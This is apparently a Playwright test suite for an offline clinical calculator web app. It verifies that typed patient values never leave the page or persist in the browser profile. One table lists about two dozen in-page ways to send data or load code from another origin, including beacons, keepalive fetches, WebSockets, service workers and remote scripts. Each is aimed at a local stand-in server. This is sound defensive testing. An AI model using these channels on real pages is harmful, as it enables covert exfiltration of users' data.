// No data leave the page: attempts to reach another origin never arrive at a server there; a whole session requests
// only the page's own files; and no typed text remains on the disk.
import { type AddressInfo, createServer, type Server, type Socket } from "node:net";
import { expect, type Page, test as base } from "@playwright/test";
import { Bedside } from "./bedside";
import { Profile } from "./profile";

// One width is sufficient: nothing here depends on it.
base.beforeEach(({}, info) => base.skip(info.project.name !== "desk", "depends on no width"));

/** A server of another origin, which should receive nothing. */
class Outside {
  /** Number of bytes received. */
  heard = 0;
  /** Number of connections, with or without data. */
  touched = 0;
  private readonly sockets = new Set<Socket>();
  private readonly server: Server = createServer((socket) => {
    this.touched += 1;
    this.sockets.add(socket);
    socket.on("error", () => {});
    socket.on("data", (said) => {
      this.heard += said.length;
      socket.end("HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
    });
  });

  async start(): Promise<void> {
    await new Promise<void>((done) => this.server.listen(0, "127.0.0.1", done));
  }

  get url(): string {
    // The page is at 127.0.0.1; this name is another origin, and shares no connection.
    return `http://localhost:${(this.server.address() as AddressInfo).port}/`;
  }

  async stop(): Promise<void> {
    for (const socket of this.sockets) socket.destroy();
    await new Promise((done) => this.server.close(done));
  }
}

const test = base.extend<{ outside: Outside }>({
  outside: async ({}, use) => {
    const outside = new Outside();
    await outside.start();
    await use(outside);
    await outside.stop();
  },
});

/** Attempts of a script in the page. Each gets the URL of the server outside. */
const ATTEMPTS: Record<string, (url: string) => unknown> = {
  fetch: (url) => fetch(url, { method: "POST", body: "marker", mode: "no-cors" }),
  "a fetch that outlives the page": (url) => fetch(url, { method: "POST", body: "marker", mode: "no-cors", keepalive: true }),
  "an XMLHttpRequest": (url) => {
    const request = new XMLHttpRequest();
    request.open("POST", url);
    request.send("marker");
  },
  "a beacon": (url) => navigator.sendBeacon(url, "marker"),
  "a WebSocket": (url) => new WebSocket(url.replace("http", "ws")),
  "an EventSource": (url) => new EventSource(url),
  "a WebTransport": (url) => new (window as any).WebTransport(url.replace("http:", "https:")),
  "a picture": (url) => (new Image().src = `${url}a.png`),
  "a sound": (url) => new Audio(`${url}a.wav`).play(),
  "a form": (url) => {
    const form = Object.assign(document.createElement("form"), { action: url, method: "post" });
    document.body.append(form);
    form.submit();
  },
  "a frame": (url) => document.body.append(Object.assign(document.createElement("iframe"), { src: url })),
  "an object": (url) => document.body.append(Object.assign(document.createElement("object"), { data: url })),
  "a worker": (url) => new Worker(`${url}a.js`),
  "a shared worker": (url) => new SharedWorker(`${url}a.js`),
  "a service worker": (url) => navigator.serviceWorker.register(`${url}a.js`),
  "an imported script": (url) => import(`${url}a.js`),
  "a script": (url) => document.body.append(Object.assign(document.createElement("script"), { src: `${url}a.js` })),
  "a style sheet": (url) => document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: `${url}a.css` })),
  "a style with a picture": (url) => document.body.style.setProperty("background-image", `url(${url}a.png)`),
  "a font": (url) => new FontFace("outside", `url(${url}a.woff2)`).load(),
  "a prefetch": (url) => document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: url })),
  "a preload": (url) => document.head.append(Object.assign(document.createElement("link"), { rel: "preload", as: "fetch", href: url })),
  "a manifest": (url) => document.head.append(Object.assign(document.createElement("link"), { rel: "manifest", href: url })),
  "markup with a picture": (url) => (document.createElement("p").innerHTML = `<img src="${url}a.png">`),
  "a popup": (url) => window.open(url),
  "a link to a new window": (url) => Object.assign(document.createElement("a"), { href: url, target: "_blank" }).click(),
};

/** Chromium connects in advance to the target of a frame or a form, before it checks the policy, but sends no data. */
const TOUCHES = ["a form", "a frame"];

for (const [what, attempt] of Object.entries(ATTEMPTS)) {
  test(`${what} towards another origin does not get out`, async ({ page, outside, baseURL }) => {
    await page.goto("/");
    await expect(page.locator("main input").first()).toBeEditable();
    const console = await page.context().newCDPSession(page);
    const tried = `(${attempt})(${JSON.stringify(outside.url)})`;
    await console.send("Runtime.evaluate", { expression: `try { Promise.resolve(${tried}).catch(() => {}) } catch {}`, userGesture: true });
    await page.waitForTimeout(500);
    expect(outside.heard).toBe(0);
    if (!TOUCHES.includes(what)) expect(outside.touched).toBe(0);
    expect(page.url().replace(/#\/$/, "")).toBe(baseURL);
  });
}

test("the server outside hears what is not kept in", async ({ page, outside }) => {
  // Checks that the server would receive data; otherwise the tests above would be vacuous.
  await page.goto("about:blank");
  await page.goto(outside.url).catch(() => {});
  expect(outside.heard).toBeGreaterThan(0);
});

test("a whole session asks for the page's own files only", async ({ page, baseURL }) => {
  const asked: string[] = [];
  page.context().on("request", (request) => asked.push(`${request.method()} ${request.url()} ${request.postData() ?? ""}`));
  await session(page, "0.987654321");
  expect(asked.length).toBeGreaterThan(15);
  const own = /^GET [^ ]*\/(|sw\.js|manifest\.webmanifest|install\/icon-\d+\.png|[\w-]+-[0-9a-f]{12,16}(_bg)?\.(js|wasm|css|json|txt|svg)) $/;
  const { origin } = new URL(baseURL!);
  for (const request of asked) {
    if (/^GET (blob:|data:)/.test(request)) continue;
    expect(request).toMatch(own);
    expect(request).toContain(` ${origin}/`);
  }
});

test("nothing that was typed is left in the profile of the browser", async ({ baseURL }) => {
  const profile = new Profile();
  const marker = "7.0314159265";
  const page = await profile.open();
  await session(page, marker, baseURL!);
  const kept = page.locator(".offline p");
  await expect(kept).toContainText("Stored on this device", { timeout: 60_000 });
  await profile.close();
  const found: string[] = [];
  let [read, ours] = [0, 0];
  for (const [path, bytes] of profile.files()) {
    read += 1;
    if (bytes.includes("spinemet")) ours += 1;
    for (const form of [Buffer.from(marker, "utf8"), Buffer.from(marker, "utf16le")]) {
      if (bytes.includes(form)) found.push(path);
    }
  }
  // The page itself is found, so the search covers the right files.
  expect(read).toBeGreaterThan(20);
  expect(ours).toBeGreaterThan(0);
  expect(found).toEqual([]);
  await profile.remove();
});

test("no field offers what was typed before", async ({ page }) => {
  await page.goto("/");
  await expect(page.locator("main input").first()).toBeEditable();
  // In one step: between finding the fields and reading them the page may render others.
  const offering = await page.evaluate(() =>
    [...document.querySelectorAll<HTMLInputElement>("input, textarea, select")]
      .filter((field) => !["checkbox", "radio", "file", "button"].includes(field.type) && !field.closest("header"))
      .filter((field) => (field.form?.autocomplete ?? field.autocomplete) !== "off" && field.autocomplete !== "off")
      .map((field) => field.outerHTML),
  );
  expect(offering).toEqual([]);
});

/** A user's session: a patient with a typed number, every page, another language, and back. */
async function session(page: Page, typed: string, address = "/"): Promise<void> {
  await page.goto(address);
  const bedside = new Bedside(page);
  await bedside.answer("Primary", "HCC");
  await bedside.type("INR", typed);
  await expect(bedside.number("INR")).toHaveValue(typed);
  for (const name of ["Cohort", "Evidence", "About", "Bedside"]) {
    await page.getByRole("link", { name, exact: true }).click();
    await expect(page.getByRole("heading", { level: 1 })).toBeAttached();
  }
  await page.locator("select.language").selectOption("ko");
  await expect(page.locator("html")).toHaveAttribute("lang", "ko");
  await page.locator("select.language").selectOption("en");
  await expect(bedside.number("INR")).toHaveValue(typed);
}
